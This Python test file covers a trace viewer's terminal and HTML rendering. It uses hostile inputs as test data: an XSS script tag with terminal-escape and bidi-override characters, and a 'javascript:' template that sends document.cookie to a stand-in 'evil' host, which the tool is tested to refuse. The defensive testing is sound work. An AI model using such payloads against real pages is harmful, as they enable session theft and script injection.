"""`tracelog show`: the waterfall in the terminal and as HTML, from logs and span records."""

from __future__ import annotations

import logging
import re
import shutil
import struct
import subprocess
import sys
import tracemalloc
from dataclasses import dataclass
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
from opentelemetry import trace
from opentelemetry.sdk.trace.export import SimpleSpanProcessor
from opentelemetry.trace import SpanKind, Status, StatusCode

import tracelog
from tests.cli_support import Corpus, hex_ids, run_cli, write_corpus
from tracelog import _render as render
from tracelog._term import Colors
from tracelog.cli import show
from tracelog.cli.ids import parse_trace_id
from tracelog.cli.show import build_trace, render_text
from tracelog.export import JsonLinesSpanExporter
from tracelog.schemas import SPAN_RECORD, datadog_trace_id, xray_trace_id
from tracelog.testing import SpanRecorder

ANSI = re.compile(r"\x1b\[[0-9;]*m")
HOSTILE = "<script>alert(1)</script>\x1b[2J\u202eevil"


def fail(message: str) -> None:
    raise ValueError(message)


@dataclass
class Shop:
    """A checkout request logged with span records in one file."""

    path: Path
    trace_id: str
    root: str
    inventory: str
    charge: str


@pytest.fixture
def shop(tmp_path: Path) -> Shop:
    """Two services' spans and logs written into one file, as a service would."""
    checkout = SpanRecorder(service="checkout")
    payments = SpanRecorder(service="payments")
    path = tmp_path / "shop.log"
    with path.open("w") as stream:
        for rec in (checkout, payments):
            rec.provider.add_span_processor(SimpleSpanProcessor(JsonLinesSpanExporter(stream)))
        tracelog.configure(stream=stream, service="checkout")
        log = tracelog.get_logger("checkout")
        with checkout.tracer.start_as_current_span("GET /checkout", kind=SpanKind.SERVER) as root:
            log.info("order placed", order_id="A-1001")
            with checkout.tracer.start_as_current_span("reserve inventory") as inventory:
                logging.getLogger("inventory").info("reserved", extra={"sku": "B-7"})
            with payments.tracer.start_as_current_span("POST /charge") as charge:
                logging.getLogger("payments").warning("card declined")
                try:
                    fail(HOSTILE)
                except ValueError as exc:
                    log.exception("charge failed")
                    charge.record_exception(exc)
                charge.set_status(Status(StatusCode.ERROR, "insufficient funds"))
            log.info("order failed")
        with checkout.tracer.start_as_current_span("another request"):
            log.info("not this trace")
        tracelog.shutdown()
    checkout.shutdown()
    payments.shutdown()
    trace_id, root_id = hex_ids(root)
    return Shop(path, trace_id, root_id, hex_ids(inventory)[1], hex_ids(charge)[1])


def waterfall(stdout: bytes) -> list[str]:
    """The waterfall rows without the time track (the first 48 columns at most)."""
    rows = stdout.decode().splitlines()[3:]
    return [re.sub(r"^[ █░·•]+ {2}", "", row) for row in rows]


class TestTerminalWaterfall:
    def test_span_tree_from_records_with_logs_inline(self, shop: Shop) -> None:
        """Parents from span records; each span's lines under it in time order; errors marked."""
        proc = run_cli("show", "--color=never", shop.trace_id, shop.path)
        assert (0, b"") == (proc.returncode, proc.stderr)
        head = proc.stdout.decode().splitlines()[0]
        assert head.startswith(f"trace {shop.trace_id}  ·  3 span(s)  ·  5 log line(s)  ·  ")
        assert head.endswith("  ·  checkout, payments")
        rows = waterfall(proc.stdout)
        shape = [re.sub(r"\s+", " ", re.sub(r"[\d.]+ (ms|s)\b", "T", row)).strip() for row in rows]
        assert [
            f"GET /checkout checkout server T {shop.root}",
            "│ +T info order placed order_id=A-1001",
            "│ +T info order failed",
            f"├─ reserve inventory checkout internal T {shop.inventory}",
            "│ +T info reserved sku=B-7",
            f"└─ POST /charge payments internal T ERROR: insufficient funds {shop.charge}",
            "+T warning card declined",
            (
                "+T error charge failed "
                'exception="ValueError: <script>alert(1)</script>\\x1b[2J\\u202eevil"'
            ),
        ] == shape

    def test_colour_highlights_errors_and_escapes_log_text(self, shop: Shop) -> None:
        """--color=always paints the error span red; log text never carries raw escapes."""
        proc = run_cli("show", "--color=always", shop.trace_id, shop.path)
        text = proc.stdout.decode()
        assert "\x1b[1;31mPOST /charge\x1b[0m" in text
        plain = ANSI.sub("", text)
        assert not set(plain) & {"\x1b", "\u202e"}

    def test_spans_without_records_are_roots_in_order(self, shop: Shop, tmp_path: Path) -> None:
        """Logs alone: one row per span, ordered by first line, bars from the lines."""
        logs_only = tmp_path / "logs.log"
        lines = shop.path.read_bytes().splitlines(keepends=True)
        logs_only.write_bytes(b"".join(line for line in lines if b"tracelog.record" not in line))
        proc = run_cli("show", shop.trace_id, logs_only)
        rows = [r for r in waterfall(proc.stdout) if "(no span record)" in r]
        assert [shop.root, shop.inventory, shop.charge] == [r.split()[-1] for r in rows]
        assert all(not r.startswith(("├", "└")) for r in rows)
        assert "3 span(s)  ·  5 log line(s)" in proc.stdout.decode().splitlines()[0]

    def test_every_layout_in_one_waterfall(self, tmp_path: Path) -> None:
        """Lines of one trace in all layouts (Datadog by low 64 bits) gather under two spans."""
        recorder = SpanRecorder(service="checkout")
        corpus: Corpus = write_corpus(tmp_path, recorder)
        recorder.shutdown()
        proc = run_cli("show", datadog_trace_id(corpus.trace_id), *corpus.paths())
        head = proc.stdout.decode().splitlines()[0]
        # Found by the low 64 bits, the full id is taken from the lines that carry it.
        lines = 2 * len(corpus.files)
        assert head.startswith(f"trace {corpus.trace_id}  ·  2 span(s)  ·  {lines} log line(s)")

    def test_grep_pretty_shows_records_as_spans(self, shop: Shop) -> None:
        """`grep --pretty` shows a span record in the same columns: start, service, span."""
        proc = run_cli("grep", "--pretty", "--color=never", shop.trace_id, shop.path)
        spans = [row.split("  ") for row in proc.stdout.decode().splitlines() if "  span  " in row]
        shape = [[part.strip() for part in row[1:] if part.strip()] for row in spans]
        assert [
            ["checkout", "span", shop.inventory, "reserve inventory", "internal"],
            [
                "payments",
                "span",
                shop.charge,
                "POST /charge",
                "internal",
                "ERROR: insufficient funds",
            ],
            ["checkout", "span", shop.root, "GET /checkout", "server"],
        ] == [[p for p in row if not re.fullmatch(r"[\d.]+ (ms|s)", p)] for row in shape]

    def test_the_example_files(self, tmp_path: Path) -> None:
        """examples/trace_file.py's two services, two layouts: one waterfall, three spans."""
        example = Path(__file__).parent.parent / "examples" / "trace_file.py"
        made = subprocess.run(
            [sys.executable, str(example), str(tmp_path)],
            capture_output=True,
            text=True,
            check=True,
            timeout=120,
        )
        trace_id = made.stdout.strip()
        proc = run_cli("show", trace_id, tmp_path / "checkout.log", tmp_path / "payments.log")
        rows = waterfall(proc.stdout)
        names = [r for r in rows if "│" not in r[:3] and not r.lstrip().startswith("+")]
        assert ["POST /checkout", "├─ reserve inventory", "└─ POST /charge"] == [
            r.split("  ")[0] for r in names
        ]
        assert "ERROR: card declined" in names[2]

    def test_no_lines_is_exit_1(self, shop: Shop) -> None:
        """A trace with no lines in the input: one stderr line, exit 1."""
        proc = run_cli("show", "ab" * 16, shop.path)
        assert (1, b"", f"tracelog: no lines of trace '{'ab' * 16}' found\n".encode()) == (
            proc.returncode,
            proc.stdout,
            proc.stderr,
        )


class TestTraceUrl:
    def test_link_at_the_top_with_every_placeholder(self, shop: Shop) -> None:
        """--trace-url fills {trace_id} {span_id} {trace_id_dd} {xray_trace_id} {service}."""
        template = "https://ui/{trace_id}/{span_id}/{trace_id_dd}/{xray_trace_id}/{service}?x={{y}}"
        proc = run_cli("show", "--trace-url", template, shop.trace_id, shop.path)
        tid = shop.trace_id
        expected = (
            f"link  https://ui/{tid}/{shop.root}/{datadog_trace_id(tid)}/{xray_trace_id(tid)}"
            "/checkout?x={y}"
        )
        assert expected == proc.stdout.decode().splitlines()[1]

    def test_env_var_and_flag(self, shop: Shop) -> None:
        """TRACELOG_TRACE_URL is the default; --trace-url wins over it."""
        env = {"TRACELOG_TRACE_URL": "http://localhost:16686/trace/{trace_id}"}
        proc = run_cli("show", shop.trace_id, shop.path, env=env)
        assert (
            f"link  http://localhost:16686/trace/{shop.trace_id}"
            == (proc.stdout.decode().splitlines()[1])
        )
        template = "https://z/{trace_id}"
        proc = run_cli("show", "--trace-url", template, shop.trace_id, shop.path, env=env)
        assert f"link  https://z/{shop.trace_id}" == proc.stdout.decode().splitlines()[1]

    @pytest.mark.parametrize(
        ("template", "problem"),
        [
            ("http://x/{traceid}", "unknown placeholder {traceid}"),
            ("http://x/{trace_id", "expected '}' before end of string"),
            ("http://x/trace_id}", "Single '}' encountered in format string"),
            ("http://x/{trace_id!r}", "unknown placeholder {trace_id!r}"),
            ("http://x/{trace_id:>40}", "unknown placeholder {trace_id:>40}"),
            ("http://x/{}", "unknown placeholder {}"),
        ],
    )
    def test_bad_template_is_a_usage_error(self, template: str, problem: str) -> None:
        """Unknown placeholders and unbalanced braces: exit 2, one line naming the valid ones."""
        valid = "{trace_id}, {span_id}, {trace_id_dd}, {xray_trace_id}, {service}"
        proc = run_cli("show", "--trace-url", template, "ab" * 16, "/dev/null")
        assert (2, b"") == (proc.returncode, proc.stdout)
        assert (
            f"tracelog show: bad --trace-url template: {problem}; valid placeholders: {valid}\n"
        ).encode() == proc.stderr

    def test_bad_env_template_names_the_variable(self) -> None:
        """A bad TRACELOG_TRACE_URL is a usage error that names the variable."""
        env = {"TRACELOG_TRACE_URL": "http://x/{nope}"}
        proc = run_cli("show", "ab" * 16, "/dev/null", env=env)
        assert 2 == proc.returncode
        assert proc.stderr.startswith(b"tracelog show: bad TRACELOG_TRACE_URL template: unknown")

    @pytest.mark.parametrize("html", [False, True], ids=["terminal", "html"])
    def test_javascript_template_is_a_usage_error(self, shop: Shop, tmp_path, html) -> None:
        """A javascript: template is refused with exit 2 before any page is written."""
        out = tmp_path / "trace.html"
        template = "javascript:fetch('//evil/'+document.cookie)//{trace_id}"
        args = ["--html", out] if html else []
        proc = run_cli("show", *args, "--trace-url", template, shop.trace_id, shop.path)
        assert (2, b"", False) == (proc.returncode, proc.stdout, out.exists())
        assert proc.stderr.startswith(
            b"tracelog show: bad --trace-url template: the template must start with http:// or "
            b"https://, not "
        )


class _Page(HTMLParser):
    """Elements and text of an HTML page, for structural assertions."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text.append(data)


class _Details(HTMLParser):
    """Each log line's message, open state, fields (dt/dd) and stack (pre.stack)."""

    def __init__(self) -> None:
        super().__init__()
        self.lines: list[tuple[str, bool]] = []
        self.fields: list[dict[str, str]] = []
        self.stacks: list[str] = []
        self.scripts = 0
        self._in: str | None = None
        self._open = False
        self._text = ""
        self._key = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        a = dict(attrs)
        if tag == "script":
            self.scripts += 1
        if tag == "details":
            self._open = "open" in a
            self.fields.append({})
        elif (tag == "span" and a.get("class") == "message") or tag in {"dt", "dd"}:
            self._in, self._text = tag if tag != "span" else "message", ""
        elif tag == "pre" and a.get("class") == "stack":
            self._in, self._text = "stack", ""

    def handle_endtag(self, tag: str) -> None:
        if self._in is None or tag not in {"span", "dt", "dd", "pre"}:
            return
        if self._in == "message":
            self.lines.append((self._text, self._open))
        elif self._in == "dt":
            self._key = self._text
        elif self._in == "dd":
            self.fields[-1][self._key] = self._text
        elif self._in == "stack":
            self.stacks.append(self._text)
        self._in = None

    def handle_data(self, data: str) -> None:
        if self._in is not None:
            self._text += data


class TestHtml:
    def test_self_contained_page_with_escaped_logs(self, shop: Shop, tmp_path: Path) -> None:
        """One file, no external assets, links from the template, log text escaped."""
        out = tmp_path / "trace.html"
        template = "http://localhost:16686/trace/{trace_id}?uiFind={span_id}"
        proc = run_cli("show", "--html", out, "--trace-url", template, shop.trace_id, shop.path)
        assert (0, b"", f"tracelog: wrote {out}\n".encode()) == (
            proc.returncode,
            proc.stdout,
            proc.stderr,
        )
        page = _Page()
        page.feed(out.read_text())
        tags = [tag for tag, _ in page.tags]
        assert 1 == tags.count("script")
        assert not [a for _, a in page.tags if "src" in a or a.get("rel") == "stylesheet"]
        hrefs = [a["href"] for tag, a in page.tags if tag == "a"]
        base = f"http://localhost:16686/trace/{shop.trace_id}?uiFind="
        assert [base + s for s in (shop.root, shop.root, shop.inventory, shop.charge)] == hrefs
        text = "".join(page.text)
        assert "ValueError: <script>alert(1)</script>\\x1b[2J\\u202eevil" in text
        assert "\u202e" not in out.read_text()

    def test_error_line_shows_its_stack(self, shop: Shop, tmp_path: Path) -> None:
        """The exception's stack trace is on the page, escaped, its line open from the start."""
        out = tmp_path / "trace.html"
        assert 0 == run_cli("show", "--html", out, shop.trace_id, shop.path).returncode
        page = _Details()
        page.feed(out.read_text())
        (stack,) = page.stacks
        lines = stack.splitlines()
        assert "Traceback (most recent call last):" == lines[0]
        assert "ValueError: <script>alert(1)</script>\\x1b[2J\\u202eevil" == lines[-1]
        assert any("fail(HOSTILE)" in line for line in lines)
        assert ["charge failed"] == [m for m, is_open in page.lines if is_open]
        assert 1 == page.scripts

    def test_each_line_opens_all_its_fields(self, shop: Shop, tmp_path: Path) -> None:
        """Every log line is a <details> holding each of its fields, names and values."""
        out = tmp_path / "trace.html"
        assert 0 == run_cli("show", "--html", out, shop.trace_id, shop.path).returncode
        page = _Details()
        page.feed(out.read_text())
        assert ["order placed", "order failed", "reserved", "card declined", "charge failed"] == [
            m for m, _ in page.lines
        ]
        reserved = page.fields[2]
        assert "B-7" == reserved["sku"]
        assert "inventory" == reserved["logger"]
        assert shop.trace_id == reserved["traceId"]
        assert shop.inventory == reserved["spanId"]
        assert "ValueError" in page.fields[4]["exception"]

    def test_unwritable_output(self, shop: Shop, tmp_path: Path) -> None:
        """An --html path that cannot be written: one stderr line, exit 2."""
        out = tmp_path / "missing-dir" / "trace.html"
        proc = run_cli("show", "--html", out, shop.trace_id, shop.path)
        assert (2, f"tracelog: {out}: No such file or directory\n".encode()) == (
            proc.returncode,
            proc.stderr,
        )


def chromium() -> str:
    """The Chromium binary on PATH; the test skips without one (tests install nothing)."""
    found = shutil.which("chromium") or shutil.which("chromium-browser")
    if found is None:
        pytest.skip(
            "no chromium or chromium-browser on PATH (tests install nothing; "
            "`.ci/run` installs Debian's chromium package)"
        )
    return found


def headless(browser: str, profile: Path, *args: str) -> subprocess.CompletedProcess[str]:
    flags = [
        "--headless",
        "--no-sandbox",
        "--disable-gpu",
        "--disable-quic",
        "--no-first-run",
        "--disable-background-networking",
        "--disable-component-update",
        "--disable-sync",
        f"--user-data-dir={profile}",
    ]
    return subprocess.run(
        [browser, *flags, *args], capture_output=True, text=True, check=False, timeout=120
    )


@pytest.mark.slow
class TestHtmlInChromium:
    def test_real_browser_renders_spans_and_logs(self, shop: Shop, tmp_path: Path) -> None:
        """Headless Chromium: the DOM holds every span and log line; a screenshot is drawn."""
        browser = chromium()
        out = tmp_path / "trace.html"
        assert 0 == run_cli("show", "--html", out, shop.trace_id, shop.path).returncode
        dom = headless(browser, tmp_path / "profile", "--dump-dom", out.as_uri()).stdout
        page = _Page()
        page.feed(dom)
        text = " ".join(page.text)
        for expected in (
            "GET /checkout",
            "reserve inventory",
            "POST /charge",
            "order placed",
            "reserved",
            "card declined",
            "charge failed",
            "ERROR: insufficient funds",
        ):
            assert expected in text
        spans = [a.get("data-span-id") for tag, a in page.tags if tag == "section"]
        assert [shop.root, shop.inventory, shop.charge] == spans
        # The hostile message stayed text: still one script element, the page's own.
        assert 1 == [tag for tag, _ in page.tags].count("script")
        shot = tmp_path / "shot.png"
        headless(
            browser,
            tmp_path / "profile",
            f"--screenshot={shot}",
            "--window-size=1200,700",
            out.as_uri(),
        )
        data = shot.read_bytes()
        assert b"\x89PNG\r\n\x1a\n" == data[:8]
        assert (1200, 700) == struct.unpack(">II", data[16:24])
        assert len(data) > 10_000  # drawn bars and text, not a blank page


class TestWithTracer:
    def test_use_span_ids_match_records(self, tmp_path: Path) -> None:
        """A span known from a record and from lines is one span (ids read the same way)."""
        rec = SpanRecorder(service="svc")
        path = tmp_path / "one.log"
        with path.open("w") as stream:
            rec.provider.add_span_processor(SimpleSpanProcessor(JsonLinesSpanExporter(stream)))
            tracelog.configure(stream=stream, schema="ecs")
            with rec.tracer.start_as_current_span("op") as span:
                tracelog.get_logger("x").info("hello")
            tracelog.shutdown()
        rec.shutdown()
        trace_id, _ = hex_ids(span)
        assert trace.get_current_span() is trace.INVALID_SPAN
        rows = waterfall(run_cli("show", trace_id, path).stdout)
        assert 2 == len(rows)
        assert rows[0].startswith("op  svc  internal  ")


def span_record(span: int, parent: int | None, name: str = "") -> dict[str, object]:
    """A span record of trace TRACE_ID, span id = *span* in hex."""
    start = 1_700_000_000_000_000_000 + span
    return SPAN_RECORD.record(
        trace_id=TRACE_ID,
        span_id=f"{span:016x}",
        parent_span_id=None if parent is None else f"{parent:016x}",
        name=name or f"s{span}",
        kind="internal",
        service="svc",
        start_ns=start,
        end_ns=start + 1000,
        status="unset",
        status_message=None,
        attributes={},
    )


TRACE_ID = "4bf92f3577b34da6a3ce929d0e0e4736"


class TestHostileSpanRecords:
    def test_deep_chain_costs_bounded_memory(self) -> None:
        """An 8,000-deep parent chain renders every span in little memory, lines stay short."""
        records = [span_record(1, None), *(span_record(i, i - 1) for i in range(2, 8001))]
        tracemalloc.start()
        try:
            trace = build_trace([(r, SPAN_RECORD) for r in records], parse_trace_id(TRACE_ID))
            lines = render_text(trace, Colors(enabled=False), 40, None)
            peak = tracemalloc.get_traced_memory()[1]
        finally:
            tracemalloc.stop()
        spans = [line for line in lines if " internal " in line]
        assert 8000 == len(spans)
        assert peak < 48 * 1024 * 1024, peak
        assert max(map(len, lines)) < 400
        assert f"└{8000 - 1}─ s8000 " in spans[-1]

    def test_parent_loops_all_show(self, tmp_path: Path) -> None:
        """10,000 records in 5,000 two-span loops: every span shows, each loop from one member."""
        path = tmp_path / "loops.jsonl"
        with path.open("wb") as out:
            for i in range(1, 10_001, 2):
                out.write(render.dumps(span_record(i, i + 1)))
                out.write(render.dumps(span_record(i + 1, i)))
        proc = run_cli("show", "--color", "never", TRACE_ID, path)
        assert 0 == proc.returncode, proc.stderr
        rows = [line for line in proc.stdout.decode().splitlines() if " internal " in line]
        assert 10_000 == len(rows)
        assert 5_000 == sum(1 for row in rows if "─ " not in row)

    @pytest.mark.parametrize("shape", ["loops", "chain"])
    def test_work_grows_linearly(self, shape: str) -> None:
        """Lines of show.py run to build and draw a trace grow with the records, not their square.

        Counted with a line tracer, not timed: four times the records may cost about four
        times the lines (sorting adds a little), never sixteen.
        """

        def records(n: int) -> list[dict[str, object]]:
            if shape == "loops":
                return [
                    r
                    for i in range(1, n, 2)
                    for r in (span_record(i, i + 1), span_record(i + 1, i))
                ]
            return [span_record(1, None), *(span_record(i, i - 1) for i in range(2, n + 1))]

        def lines_run(n: int) -> int:
            matches = [(r, SPAN_RECORD) for r in records(n)]
            count = 0

            def local(frame: Any, event: str, arg: Any) -> Any:
                nonlocal count
                count += event == "line"
                return local

            def tracer(frame: Any, event: str, arg: Any) -> Any:
                return local if frame.f_code.co_filename == show.__file__ else None

            previous = sys.gettrace()  # coverage's tracer, when it runs
            sys.settrace(tracer)
            try:
                render_text(build_trace(matches, parse_trace_id(TRACE_ID)), Colors(False), 40, None)
            finally:
                sys.settrace(previous)
            return count

        assert lines_run(2000) < 6 * lines_run(500)

    def test_loop_keeps_children_under_their_parent(self) -> None:
        """A span hanging off a loop stays under its parent; the loop is cut at a member."""
        records = [span_record(3, 1, "C"), span_record(1, 2, "A"), span_record(2, 1, "B")]
        trace = build_trace([(r, SPAN_RECORD) for r in records], parse_trace_id(TRACE_ID))
        shown = sorted((node.name, depth) for node, depth, _, _ in trace.walk())
        assert [("A", 0), ("B", 1), ("C", 1)] == shown

    def test_html_indentation_is_capped(self) -> None:
        """The HTML page indents at most MAX_INDENT levels."""
        from tracelog.cli.html import render_html
        from tracelog.cli.show import MAX_INDENT

        records = [span_record(1, None), *(span_record(i, i - 1) for i in range(2, 101))]
        trace = build_trace([(r, SPAN_RECORD) for r in records], parse_trace_id(TRACE_ID))
        depths = {int(d) for d in re.findall(r"--depth:(\d+)", render_html(trace))}
        assert MAX_INDENT == max(depths)


class TestZeroWidth:
    def test_show_escapes_invisible_characters(self, tmp_path: Path) -> None:
        """Zero-width characters in log text are spelled out by tracelog show."""
        path = tmp_path / "zw.jsonl"
        message = "pay\u200bment\u200c ok\u200d\u2060\ufeff"
        path.write_bytes(
            render.dumps(
                {
                    "timestamp": "2026-01-01T00:00:00Z",
                    "level": "info",
                    "message": message,
                    "traceId": TRACE_ID,
                    "spanId": "00f067aa0ba902b7",
                }
            )
        )
        proc = run_cli("show", "--color", "never", TRACE_ID, path)
        out = proc.stdout.decode()
        assert "pay\\u200bment\\u200c ok\\u200d\\u2060\\ufeff" in out
        assert not {"\u200b", "\u200c", "\u200d", "\u2060", "\ufeff"} & set(out)
